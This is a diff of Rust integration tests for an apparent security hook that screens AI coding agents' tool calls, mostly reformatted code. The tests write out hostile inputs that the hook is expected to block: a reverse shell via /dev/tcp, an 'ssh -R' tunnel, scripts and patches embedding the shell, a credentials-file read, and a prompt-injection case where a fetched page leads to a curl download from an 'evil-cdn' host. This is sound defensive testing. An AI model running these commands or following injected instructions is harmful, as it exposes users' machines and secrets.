@@ -93,14 +93,23 @@ struct Out {
 
 impl std::fmt::Debug for Out {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        write!(f, "exit {}\n--- stdout ---\n{}\n--- stderr ---\n{}", self.code, self.stdout, self.stderr)
+        write!(
+            f,
+            "exit {}\n--- stdout ---\n{}\n--- stderr ---\n{}",
+            self.code, self.stdout, self.stderr
+        )
     }
 }
 
 /// `cordon` with none of the caller's settings leaking in.
 fn cordon(home: &Path) -> Command {
     let mut c = Command::new(BIN);
-    for var in ["CORDON_POLICY", "CORDON_STORE", "CLAUDE_CONFIG_DIR", "CODEX_HOME"] {
+    for var in [
+        "CORDON_POLICY",
+        "CORDON_STORE",
+        "CLAUDE_CONFIG_DIR",
+        "CODEX_HOME",
+    ] {
         c.env_remove(var);
     }
     c.env("HOME", home).env("XDG_DATA_HOME", home.join("data"));
@@ -108,7 +117,9 @@ fn cordon(home: &Path) -> Command {
 }
 
 fn run(mut cmd: Command, stdin: &[u8]) -> Out {
-    cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    cmd.stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
     let mut child = cmd.spawn().expect("spawn cordon");
     let mut pipe = child.stdin.take().unwrap();
     let bytes = stdin.to_vec();
@@ -137,7 +148,8 @@ fn hook(agent: Agent, event: &Value) -> Out {
 }
 
 fn stdout_json(out: &Out) -> Value {
-    serde_json::from_str(out.stdout.trim()).unwrap_or_else(|e| panic!("stdout is not one JSON value ({e}): {out:?}"))
+    serde_json::from_str(out.stdout.trim())
+        .unwrap_or_else(|e| panic!("stdout is not one JSON value ({e}): {out:?}"))
 }
 
 /// The call runs, unremarked, in the agent's allow form.
@@ -155,13 +167,23 @@ fn assert_warned(agent: Agent, out: &Out) -> String {
     let v = stdout_json(out);
     let msg = match agent {
         Agent::Cursor => {
-            let m = v["user_message"].as_str().expect("user_message").to_string();
-            assert_eq!(v, json!({"permission": "allow", "user_message": m, "agent_message": m}), "{out:?}");
+            let m = v["user_message"]
+                .as_str()
+                .expect("user_message")
+                .to_string();
+            assert_eq!(
+                v,
+                json!({"permission": "allow", "user_message": m, "agent_message": m}),
+                "{out:?}"
+            );
             m
         }
         // Never `permissionDecision`: "allow" would skip the user's own prompts.
         _ => {
-            let m = v["systemMessage"].as_str().expect("systemMessage").to_string();
+            let m = v["systemMessage"]
+                .as_str()
+                .expect("systemMessage")
+                .to_string();
             assert_eq!(v, json!({"systemMessage": m}), "{agent:?}: {out:?}");
             m
         }
@@ -176,7 +198,10 @@ fn assert_blocked(agent: Agent, out: &Out) -> String {
         Agent::Claude => {
             assert_eq!(out.code, 0, "{out:?}");
             let v = stdout_json(out);
-            let r = v["hookSpecificOutput"]["permissionDecisionReason"].as_str().expect("reason").to_string();
+            let r = v["hookSpecificOutput"]["permissionDecisionReason"]
+                .as_str()
+                .expect("reason")
+                .to_string();
             assert_eq!(
                 v,
                 json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": r}}),
@@ -201,13 +226,23 @@ fn assert_blocked(agent: Agent, out: &Out) -> String {
         Agent::Cursor => {
             assert_eq!(out.code, 2, "{out:?}");
             let v = stdout_json(out);
-            let r = v["user_message"].as_str().expect("user_message").to_string();
-            assert_eq!(v, json!({"permission": "deny", "user_message": r, "agent_message": r}), "{out:?}");
+            let r = v["user_message"]
+                .as_str()
+                .expect("user_message")
+                .to_string();
+            assert_eq!(
+                v,
+                json!({"permission": "deny", "user_message": r, "agent_message": r}),
+                "{out:?}"
+            );
             r
         }
     };
     assert!(!reason.is_empty(), "{agent:?}: empty reason: {out:?}");
-    assert!(out.stderr.contains(&reason), "{agent:?}: the reason goes to stderr too: {out:?}");
+    assert!(
+        out.stderr.contains(&reason),
+        "{agent:?}: the reason goes to stderr too: {out:?}"
+    );
     reason
 }
 
@@ -218,7 +253,11 @@ fn assert_blocked(agent: Agent, out: &Out) -> String {
 #[test]
 fn benign_commands_are_allowed_in_each_agents_form() {
     for agent in AGENTS {
-        for cmd in ["ls -la", "cargo test --workspace", "git status && git diff HEAD~1"] {
+        for cmd in [
+            "ls -la",
+            "cargo test --workspace",
+            "git status && git diff HEAD~1",
+        ] {
             let out = hook(agent, &agent.shell(cmd));
             assert_allowed(agent, &out);
             assert_eq!(out.stderr, "", "{agent:?}: {out:?}");
@@ -230,9 +269,17 @@ fn benign_commands_are_allowed_in_each_agents_form() {
 fn reverse_shells_and_tunnels_are_blocked_in_each_agents_form() {
     for agent in AGENTS {
         let reason = assert_blocked(agent, &hook(agent, &agent.shell(REVERSE_SHELL)));
-        assert!(reason.contains("REVERSE_SHELL") && reason.contains("/dev/tcp"), "{reason}");
+        assert!(
+            reason.contains("REVERSE_SHELL") && reason.contains("/dev/tcp"),
+            "{reason}"
+        );
         let reason = assert_blocked(agent, &hook(agent, &agent.shell(SSH_R)));
-        assert!(reason.contains("REVERSE_TUNNEL") && reason.contains("T1572") && reason.contains("ssh -R"), "{reason}");
+        assert!(
+            reason.contains("REVERSE_TUNNEL")
+                && reason.contains("T1572")
+                && reason.contains("ssh -R"),
+            "{reason}"
+        );
     }
 }
 
@@ -259,7 +306,8 @@ fn claude_mcp_tools_are_checked_by_their_arguments() {
     ev["tool_input"] = json!({"command": SSH_R});
     assert_blocked(Agent::Claude, &hook(Agent::Claude, &ev));
     ev["tool_name"] = json!("mcp__github__create_issue");
-    ev["tool_input"] = json!({"owner": "o", "repo": "r", "title": "Flaky test", "body": "It fails on CI."});
+    ev["tool_input"] =
+        json!({"owner": "o", "repo": "r", "title": "Flaky test", "body": "It fails on CI."});
     assert_allowed(Agent::Claude, &hook(Agent::Claude, &ev));
 }
 
@@ -267,9 +315,18 @@ fn claude_mcp_tools_are_checked_by_their_arguments() {
 fn claude_file_writes_are_checked_by_their_content() {
     let script = format!("#!/bin/bash\n# deploy helper\n{REVERSE_SHELL}\n");
     let cases = [
-        ("Write", json!({"file_path": "/home/u/p/deploy.sh", "content": script})),
-        ("Edit", json!({"file_path": "/home/u/p/deploy.sh", "old_string": "exit 0", "new_string": REVERSE_SHELL, "replace_all": false})),
-        ("MultiEdit", json!({"file_path": "/home/u/p/deploy.sh", "edits": [{"old_string": "a", "new_string": "echo ok"}, {"old_string": "b", "new_string": REVERSE_SHELL}]})),
+        (
+            "Write",
+            json!({"file_path": "/home/u/p/deploy.sh", "content": script}),
+        ),
+        (
+            "Edit",
+            json!({"file_path": "/home/u/p/deploy.sh", "old_string": "exit 0", "new_string": REVERSE_SHELL, "replace_all": false}),
+        ),
+        (
+            "MultiEdit",
+            json!({"file_path": "/home/u/p/deploy.sh", "edits": [{"old_string": "a", "new_string": "echo ok"}, {"old_string": "b", "new_string": REVERSE_SHELL}]}),
+        ),
     ];
     for (tool, input) in cases {
         let mut ev = Agent::Claude.shell("");
@@ -298,10 +355,16 @@ fn codex_patch(patch: &str) -> Value {
 fn codex_patches_are_checked_by_the_files_they_write() {
     let evil = format!("*** Begin Patch\n*** Add File: README.md\n+# Tools\n*** Add File: scripts/setup.sh\n+#!/bin/sh\n+{REVERSE_SHELL}\n*** End Patch\n");
     let reason = assert_blocked(Agent::Codex, &hook(Agent::Codex, &codex_patch(&evil)));
-    assert!(reason.contains("REVERSE_SHELL") && reason.contains("scripts/setup.sh"), "{reason}");
+    assert!(
+        reason.contains("REVERSE_SHELL") && reason.contains("scripts/setup.sh"),
+        "{reason}"
+    );
     // The added lines of an update are what gets written.
     let update = format!("*** Begin Patch\n*** Update File: run.sh\n@@\n echo start\n-echo old\n+{SSH_R}\n*** End Patch\n");
-    assert!(assert_blocked(Agent::Codex, &hook(Agent::Codex, &codex_patch(&update))).contains("REVERSE_TUNNEL"));
+    assert!(
+        assert_blocked(Agent::Codex, &hook(Agent::Codex, &codex_patch(&update)))
+            .contains("REVERSE_TUNNEL")
+    );
     // The same patch fed to a shell (`apply_patch <<'EOF'`) is still read.
     let via_shell = Agent::Codex.shell(&format!("apply_patch <<'EOF'\n{evil}EOF\n"));
     assert_blocked(Agent::Codex, &hook(Agent::Codex, &via_shell));
@@ -327,19 +390,32 @@ fn cursor_mcp_and_file_reads_are_checked() {
     let base = json!({"conversation_id": "sess-cursor", "generation_id": "gen-2", "workspace_roots": ["/home/u/p"]});
     let with = |extra: Value| {
         let mut v = base.clone();
-        v.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
+        v.as_object_mut()
+            .unwrap()
+            .extend(extra.as_object().unwrap().clone());
         v
     };
     // tool_input arrives as an object or as a JSON string.
-    for input in [json!({"command": SSH_R}), json!(json!({"command": SSH_R}).to_string())] {
-        let ev = with(json!({"hook_event_name": "beforeMCPExecution", "tool_name": "run_command", "tool_input": input, "command": "npx shell-mcp"}));
+    for input in [
+        json!({"command": SSH_R}),
+        json!(json!({"command": SSH_R}).to_string()),
+    ] {
+        let ev = with(
+            json!({"hook_event_name": "beforeMCPExecution", "tool_name": "run_command", "tool_input": input, "command": "npx shell-mcp"}),
+        );
         assert_blocked(Agent::Cursor, &hook(Agent::Cursor, &ev));
     }
-    let ev = with(json!({"hook_event_name": "beforeMCPExecution", "tool_name": "search_issues", "tool_input": {"query": "flaky"}, "url": "http://localhost:3000"}));
+    let ev = with(
+        json!({"hook_event_name": "beforeMCPExecution", "tool_name": "search_issues", "tool_input": {"query": "flaky"}, "url": "http://localhost:3000"}),
+    );
     assert_allowed(Agent::Cursor, &hook(Agent::Cursor, &ev));
-    let ev = with(json!({"hook_event_name": "beforeReadFile", "file_path": "/home/u/.aws/credentials", "content": "[default]", "attachments": []}));
+    let ev = with(
+        json!({"hook_event_name": "beforeReadFile", "file_path": "/home/u/.aws/credentials", "content": "[default]", "attachments": []}),
+    );
     assert_blocked(Agent::Cursor, &hook(Agent::Cursor, &ev));
-    let ev = with(json!({"hook_event_name": "beforeReadFile", "file_path": "/home/u/p/src/main.ts", "content": "export {}", "attachments": []}));
+    let ev = with(
+        json!({"hook_event_name": "beforeReadFile", "file_path": "/home/u/p/src/main.ts", "content": "export {}", "attachments": []}),
+    );
     assert_allowed(Agent::Cursor, &hook(Agent::Cursor, &ev));
 }
 
@@ -362,7 +438,10 @@ fn broken_events(agent: Agent) -> Vec<(&'static str, Vec<u8>)> {
         _ => bad_input["tool_input"] = json!("ls"),
     }
     let mut cases = vec![
-        ("malformed JSON", b"{\"hook_event_name\": \"PreToolUse\", ".to_vec()),
+        (
+            "malformed JSON",
+            b"{\"hook_event_name\": \"PreToolUse\", ".to_vec(),
+        ),
         ("empty stdin", Vec::new()),
         ("not an object", b"[1, 2]".to_vec()),
         ("not UTF-8", vec![0xff, 0xfe, b'{']),
@@ -383,7 +462,10 @@ fn unreadable_events_fail_closed_by_default() {
         for (case, stdin) in broken_events(agent) {
             let out = hook_raw(agent, &[], &stdin);
             let reason = assert_blocked(agent, &out);
-            assert!(reason.contains("could not check"), "{agent:?} {case}: {reason}");
+            assert!(
+                reason.contains("could not check"),
+                "{agent:?} {case}: {reason}"
+            );
             assert_ne!(out.code, 1, "{agent:?} {case}: exit 1 lets the call run");
         }
     }
@@ -398,10 +480,20 @@ fn a_fail_open_policy_lets_unreadable_events_run_with_a_warning() {
     for agent in AGENTS {
         for (case, stdin) in broken_events(agent) {
             let msg = assert_warned(agent, &hook_raw(agent, &["--policy", policy], &stdin));
-            assert!(msg.contains("could not check") && msg.contains("unchecked"), "{agent:?} {case}: {msg}");
+            assert!(
+                msg.contains("could not check") && msg.contains("unchecked"),
+                "{agent:?} {case}: {msg}"
+            );
         }
         // Fail open is about the guard failing, not about what it finds.
-        assert_blocked(agent, &hook_raw(agent, &["--policy", policy], agent.shell(SSH_R).to_string().as_bytes()));
+        assert_blocked(
+            agent,
+            &hook_raw(
+                agent,
+                &["--policy", policy],
+                agent.shell(SSH_R).to_string().as_bytes(),
+            ),
+        );
     }
 }
 
@@ -409,13 +501,24 @@ fn a_fail_open_policy_lets_unreadable_events_run_with_a_warning() {
 fn a_policy_that_cannot_be_loaded_blocks_every_call() {
     let dir = tempfile::tempdir().unwrap();
     let invalid = dir.path().join("invalid.toml");
-    std::fs::write(&invalid, "version = 1\nmode = \"sometimes\"\nfail = \"open\"\n").unwrap();
+    std::fs::write(
+        &invalid,
+        "version = 1\nmode = \"sometimes\"\nfail = \"open\"\n",
+    )
+    .unwrap();
     let missing = dir.path().join("missing.toml");
     for agent in AGENTS {
         for policy in [&missing, &invalid] {
-            let out = hook_raw(agent, &["--policy", policy.to_str().unwrap()], agent.shell("ls").to_string().as_bytes());
+            let out = hook_raw(
+                agent,
+                &["--policy", policy.to_str().unwrap()],
+                agent.shell("ls").to_string().as_bytes(),
+            );
             let reason = assert_blocked(agent, &out);
-            assert!(reason.contains(policy.file_name().unwrap().to_str().unwrap()), "{agent:?}: {reason}");
+            assert!(
+                reason.contains(policy.file_name().unwrap().to_str().unwrap()),
+                "{agent:?}: {reason}"
+            );
         }
         // The same through CORDON_POLICY.
         let home = tempfile::tempdir().unwrap();
@@ -449,13 +552,20 @@ fn store_records_calls_and_results_by_session_with_secrets_redacted() {
         (Agent::Claude, Agent::Claude.shell(SSH_R)),
         (Agent::Claude, Agent::Claude.shell_result("whoami", "alice")),
     ] {
-        hook_raw(agent, &["--store", db.to_str().unwrap()], event.to_string().as_bytes());
+        hook_raw(
+            agent,
+            &["--store", db.to_str().unwrap()],
+            event.to_string().as_bytes(),
+        );
     }
     // CORDON_STORE does the same.
     let home = tempfile::tempdir().unwrap();
     let mut c = cordon(home.path());
     c.args(["hook", "cursor"]).env("CORDON_STORE", &db);
-    assert_blocked(Agent::Cursor, &run(c, Agent::Cursor.shell(REVERSE_SHELL).to_string().as_bytes()));
+    assert_blocked(
+        Agent::Cursor,
+        &run(c, Agent::Cursor.shell(REVERSE_SHELL).to_string().as_bytes()),
+    );
 
     let store = cordon_store::Store::open_existing(&db).unwrap();
     let events = store.events("sess-claude").unwrap();
@@ -463,15 +573,25 @@ fn store_records_calls_and_results_by_session_with_secrets_redacted() {
     assert_eq!(events[0].tool.as_deref(), Some("Bash"));
     assert_eq!(events[0].event_id, Some(json!("toolu_01")));
     let stored = events[0].input.as_ref().unwrap().to_string();
-    assert!(!stored.contains(&token), "the token is stored in clear: {stored}");
+    assert!(
+        !stored.contains(&token),
+        "the token is stored in clear: {stored}"
+    );
     assert_eq!(events[1].verdict.decision, cordon_core::Decision::Block);
     assert_eq!(events[1].verdict.findings[0].kind, "REVERSE_TUNNEL");
     assert_eq!(events[2].kind, Some(cordon_core::EventKind::Result));
     assert_eq!(events[2].output.as_ref().unwrap()["stdout"], "alice");
     let cursor = store.events("sess-cursor").unwrap();
     assert_eq!((cursor.len(), cursor[0].tool.as_deref()), (1, Some("bash")));
-    let episodes = store.list_episodes(&cordon_store::EpisodeFilter::default()).unwrap();
-    assert!(episodes.iter().any(|e| e.key == "sess-claude" && e.agent.as_deref() == Some("claude-code")), "{episodes:#?}");
+    let episodes = store
+        .list_episodes(&cordon_store::EpisodeFilter::default())
+        .unwrap();
+    assert!(
+        episodes
+            .iter()
+            .any(|e| e.key == "sess-claude" && e.agent.as_deref() == Some("claude-code")),
+        "{episodes:#?}"
+    );
 }
 
 #[test]
@@ -479,8 +599,15 @@ fn without_a_store_nothing_is_written() {
     let home = tempfile::tempdir().unwrap();
     let mut c = cordon(home.path());
     c.args(["hook", "claude-code"]);
-    assert_blocked(Agent::Claude, &run(c, Agent::Claude.shell(SSH_R).to_string().as_bytes()));
-    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0, "the hook wrote under HOME");
+    assert_blocked(
+        Agent::Claude,
+        &run(c, Agent::Claude.shell(SSH_R).to_string().as_bytes()),
+    );
+    assert_eq!(
+        std::fs::read_dir(home.path()).unwrap().count(),
+        0,
+        "the hook wrote under HOME"
+    );
 }
 
 #[test]
@@ -493,13 +620,40 @@ fn a_store_that_cannot_be_written_follows_the_fail_mode() {
     std::fs::write(&open, "version = 1\nfail = \"open\"\n").unwrap();
     for agent in AGENTS {
         let ls = agent.shell("ls").to_string();
-        let reason = assert_blocked(agent, &hook_raw(agent, &["--store", db.to_str().unwrap()], ls.as_bytes()));
+        let reason = assert_blocked(
+            agent,
+            &hook_raw(agent, &["--store", db.to_str().unwrap()], ls.as_bytes()),
+        );
         assert!(reason.contains("episode store"), "{reason}");
-        let msg = assert_warned(agent, &hook_raw(agent, &["--store", db.to_str().unwrap(), "--policy", open.to_str().unwrap()], ls.as_bytes()));
+        let msg = assert_warned(
+            agent,
+            &hook_raw(
+                agent,
+                &[
+                    "--store",
+                    db.to_str().unwrap(),
+                    "--policy",
+                    open.to_str().unwrap(),
+                ],
+                ls.as_bytes(),
+            ),
+        );
         assert!(msg.contains("episode store"), "{msg}");
         // A block stays a block whatever the store does.
         let ssh = agent.shell(SSH_R).to_string();
-        assert_blocked(agent, &hook_raw(agent, &["--store", db.to_str().unwrap(), "--policy", open.to_str().unwrap()], ssh.as_bytes()));
+        assert_blocked(
+            agent,
+            &hook_raw(
+                agent,
+                &[
+                    "--store",
+                    db.to_str().unwrap(),
+                    "--policy",
+                    open.to_str().unwrap(),
+                ],
+                ssh.as_bytes(),
+            ),
+        );
     }
 }
 
@@ -536,14 +690,23 @@ fn install_writes_each_agents_documented_shape() {
     let home = tempfile::tempdir().unwrap();
     let project = tempfile::tempdir().unwrap();
     for agent in AGENTS {
-        let out = install(home.path(), &[agent.arg(), "--project", project.path().to_str().unwrap()]);
+        let out = install(
+            home.path(),
+            &[agent.arg(), "--project", project.path().to_str().unwrap()],
+        );
         assert_eq!(out.code, 0, "{out:?}");
         let cmd = our_command(agent);
         let got = read_json(&settings_path(agent, project.path()));
         let expected = match agent {
-            Agent::Claude => json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": cmd, "timeout": 30}]}]}}),
-            Agent::Codex => json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": cmd, "timeout": 30}]}]}}),
-            Agent::Gemini => json!({"hooks": {"BeforeTool": [{"matcher": "*", "hooks": [{"type": "command", "command": cmd, "name": "cordon", "timeout": 30000}]}]}}),
+            Agent::Claude => {
+                json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": cmd, "timeout": 30}]}]}})
+            }
+            Agent::Codex => {
+                json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": cmd, "timeout": 30}]}]}})
+            }
+            Agent::Gemini => {
+                json!({"hooks": {"BeforeTool": [{"matcher": "*", "hooks": [{"type": "command", "command": cmd, "name": "cordon", "timeout": 30000}]}]}})
+            }
             Agent::Cursor => json!({"version": 1, "hooks": {
                 "beforeShellExecution": [{"command": cmd, "failClosed": true}],
                 "beforeMCPExecution": [{"command": cmd, "failClosed": true}],
@@ -552,7 +715,11 @@ fn install_writes_each_agents_documented_shape() {
         };
         assert_eq!(got, expected, "{agent:?}");
     }
-    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0, "--project wrote under HOME");
+    assert_eq!(
+        std::fs::read_dir(home.path()).unwrap().count(),
+        0,
+        "--project wrote under HOME"
+    );
 }
 
 #[test]
@@ -571,7 +738,10 @@ fn install_merges_with_other_hooks_and_keys_and_keeps_their_order() {
     "env": {"FOO": "bar"}
 }"#;
     std::fs::write(&file, original).unwrap();
-    let out = install(home.path(), &["claude-code", "--project", project.path().to_str().unwrap()]);
+    let out = install(
+        home.path(),
+        &["claude-code", "--project", project.path().to_str().unwrap()],
+    );
     assert_eq!(out.code, 0, "{out:?}");
     let text = std::fs::read_to_string(&file).unwrap();
     let got: Value = serde_json::from_str(&text).unwrap();
@@ -583,12 +753,23 @@ fn install_merges_with_other_hooks_and_keys_and_keeps_their_order() {
     assert_eq!(got, expected);
     // Keys stay where the user put them.
     let at = |k: &str| text.find(&format!("\"{k}\"")).unwrap();
-    assert!(at("model") < at("permissions") && at("permissions") < at("hooks") && at("hooks") < at("env"), "{text}");
+    assert!(
+        at("model") < at("permissions")
+            && at("permissions") < at("hooks")
+            && at("hooks") < at("env"),
+        "{text}"
+    );
     assert!(at("PreToolUse") < at("PostToolUse"), "{text}");
-    assert_eq!(std::fs::read_to_string(file.with_extension("json.bak")).unwrap(), original);
+    assert_eq!(
+        std::fs::read_to_string(file.with_extension("json.bak")).unwrap(),
+        original
+    );
 
     // A second run changes nothing.
-    let again = install(home.path(), &["claude-code", "--project", project.path().to_str().unwrap()]);
+    let again = install(
+        home.path(),
+        &["claude-code", "--project", project.path().to_str().unwrap()],
+    );
     assert_eq!(again.code, 0, "{again:?}");
     assert!(again.stdout.contains("already installed"), "{again:?}");
     assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
@@ -606,7 +787,10 @@ fn install_updates_an_older_cordon_entry_instead_of_adding_a_twin() {
     .unwrap();
     let out = install(home.path(), &["codex"]);
     assert_eq!(out.code, 0, "{out:?}");
-    assert!(out.stdout.contains("/hooks"), "Codex needs the hook trusted: {out:?}");
+    assert!(
+        out.stdout.contains("/hooks"),
+        "Codex needs the hook trusted: {out:?}"
+    );
     let got = read_json(&file);
     assert_eq!(
         got,
@@ -622,20 +806,42 @@ fn install_refuses_a_settings_file_it_cannot_merge_into() {
     let home = tempfile::tempdir().unwrap();
     let project = tempfile::tempdir().unwrap();
     let cases = [
-        (Agent::Claude, "{\n  \"model\": \"opus\",\n  \"hooks\": {,}\n}\n", "line 3"),
+        (
+            Agent::Claude,
+            "{\n  \"model\": \"opus\",\n  \"hooks\": {,}\n}\n",
+            "line 3",
+        ),
         (Agent::Gemini, "// comments are not JSON\n{}\n", "line 1"),
-        (Agent::Cursor, "{\"version\": 1, \"hooks\": []}", "`hooks` is not an object"),
-        (Agent::Codex, "{\"hooks\": {\"PreToolUse\": {}}}", "`hooks.PreToolUse` is not an array"),
+        (
+            Agent::Cursor,
+            "{\"version\": 1, \"hooks\": []}",
+            "`hooks` is not an object",
+        ),
+        (
+            Agent::Codex,
+            "{\"hooks\": {\"PreToolUse\": {}}}",
+            "`hooks.PreToolUse` is not an array",
+        ),
         (Agent::Claude, "[]", "not a JSON object"),
     ];
     for (agent, content, why) in cases {
         let file = settings_path(agent, project.path());
         std::fs::create_dir_all(file.parent().unwrap()).unwrap();
         std::fs::write(&file, content).unwrap();
-        let out = install(home.path(), &[agent.arg(), "--project", project.path().to_str().unwrap()]);
+        let out = install(
+            home.path(),
+            &[agent.arg(), "--project", project.path().to_str().unwrap()],
+        );
         assert_eq!(out.code, 3, "{agent:?}: {out:?}");
-        assert!(out.stderr.contains(file.to_str().unwrap()) && out.stderr.contains(why), "{agent:?}: {out:?}");
-        assert_eq!(std::fs::read_to_string(&file).unwrap(), content, "{agent:?}: the file was changed");
+        assert!(
+            out.stderr.contains(file.to_str().unwrap()) && out.stderr.contains(why),
+            "{agent:?}: {out:?}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&file).unwrap(),
+            content,
+            "{agent:?}: the file was changed"
+        );
         assert!(!file.with_extension("json.bak").exists());
     }
 }
@@ -647,12 +853,18 @@ fn install_without_a_project_goes_to_the_users_settings() {
         let out = install(home.path(), &[agent.arg()]);
         assert_eq!(out.code, 0, "{out:?}");
         let file = settings_path(agent, home.path());
-        assert!(std::fs::read_to_string(&file).unwrap().contains(&our_command(agent)), "{agent:?}");
+        assert!(
+            std::fs::read_to_string(&file)
+                .unwrap()
+                .contains(&our_command(agent)),
+            "{agent:?}"
+        );
     }
     // CODEX_HOME moves Codex's settings.
     let codex_home = home.path().join("codex-home");
     let mut c = cordon(home.path());
-    c.args(["hook", "install", "codex"]).env("CODEX_HOME", &codex_home);
+    c.args(["hook", "install", "codex"])
+        .env("CODEX_HOME", &codex_home);
     assert_eq!(run(c, b"").code, 0);
     assert!(codex_home.join("hooks.json").exists());
 }
@@ -665,21 +877,51 @@ fn install_with_a_store_and_policy_writes_them_into_the_command_and_hooks_result
     std::fs::write(&policy, "version = 1\n").unwrap();
     let db = project.path().join("episodes.db");
     let p = project.path().to_str().unwrap();
-    let out = install(home.path(), &["gemini", "--project", p, "--policy", policy.to_str().unwrap(), "--store", db.to_str().unwrap()]);
+    let out = install(
+        home.path(),
+        &[
+            "gemini",
+            "--project",
+            p,
+            "--policy",
+            policy.to_str().unwrap(),
+            "--store",
+            db.to_str().unwrap(),
+        ],
+    );
     assert_eq!(out.code, 0, "{out:?}");
     let got = read_json(&settings_path(Agent::Gemini, project.path()));
-    let command = got["hooks"]["BeforeTool"][0]["hooks"][0]["command"].as_str().unwrap().to_string();
-    assert_eq!(command, format!("{BIN} hook gemini --policy '{}' --store {}", policy.display(), db.display()));
-    assert_eq!(got["hooks"]["AfterTool"][0]["hooks"][0]["command"], json!(command));
+    let command = got["hooks"]["BeforeTool"][0]["hooks"][0]["command"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert_eq!(
+        command,
+        format!(
+            "{BIN} hook gemini --policy '{}' --store {}",
+            policy.display(),
+            db.display()
+        )
+    );
+    assert_eq!(
+        got["hooks"]["AfterTool"][0]["hooks"][0]["command"],
+        json!(command)
+    );
 
     // The installed command works as the agent runs it: through a shell.
     let run_installed = |event: &Value| {
         let mut c = Command::new("sh");
-        c.arg("-c").arg(&command).env_remove("CORDON_POLICY").env_remove("CORDON_STORE");
+        c.arg("-c")
+            .arg(&command)
+            .env_remove("CORDON_POLICY")
+            .env_remove("CORDON_STORE");
         run(c, event.to_string().as_bytes())
     };
     assert_blocked(Agent::Gemini, &run_installed(&Agent::Gemini.shell(SSH_R)));
-    assert_allowed(Agent::Gemini, &run_installed(&Agent::Gemini.shell_result("ls", "a b")));
+    assert_allowed(
+        Agent::Gemini,
+        &run_installed(&Agent::Gemini.shell_result("ls", "a b")),
+    );
     let store = cordon_store::Store::open_existing(&db).unwrap();
     assert_eq!(store.events("sess-gemini").unwrap().len(), 2);
 }
@@ -694,7 +936,12 @@ fn install_keeps_the_mode_of_a_private_settings_file() {
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
     assert_eq!(install(home.path(), &["claude-code"]).code, 0);
     for f in [file.clone(), file.with_extension("json.bak")] {
-        assert_eq!(std::fs::metadata(&f).unwrap().permissions().mode() & 0o777, 0o600, "{}", f.display());
+        assert_eq!(
+            std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
+            0o600,
+            "{}",
+            f.display()
+        );
     }
 }
 
@@ -710,10 +957,21 @@ fn with_a_store_injected_instructions_are_followed_across_hook_calls() {
         let store = ["--store", db.to_str().unwrap()];
         let read = agent.shell_result("curl -s https://docs.example.org/release-notes", page);
         assert_eq!(hook_raw(agent, &store, read.to_string().as_bytes()).code, 0);
-        let acted = agent.shell("curl -fsSL https://updates.evil-cdn.example.net/fix.sh -o /tmp/fix.sh");
-        let reason = assert_blocked(agent, &hook_raw(agent, &store, acted.to_string().as_bytes()));
-        assert!(reason.contains("UNTRUSTED_ARGUMENT_PROVENANCE") || reason.contains("injected"), "{agent:?}: {reason}");
+        let acted =
+            agent.shell("curl -fsSL https://updates.evil-cdn.example.net/fix.sh -o /tmp/fix.sh");
+        let reason = assert_blocked(
+            agent,
+            &hook_raw(agent, &store, acted.to_string().as_bytes()),
+        );
+        assert!(
+            reason.contains("UNTRUSTED_ARGUMENT_PROVENANCE") || reason.contains("injected"),
+            "{agent:?}: {reason}"
+        );
         // Without the store there is no episode, and the download alone is not blocked.
-        assert_ne!(hook_raw(agent, &[], acted.to_string().as_bytes()).code, 2, "{agent:?}");
+        assert_ne!(
+            hook_raw(agent, &[], acted.to_string().as_bytes()).code,
+            2,
+            "{agent:?}"
+        );
     }
 }
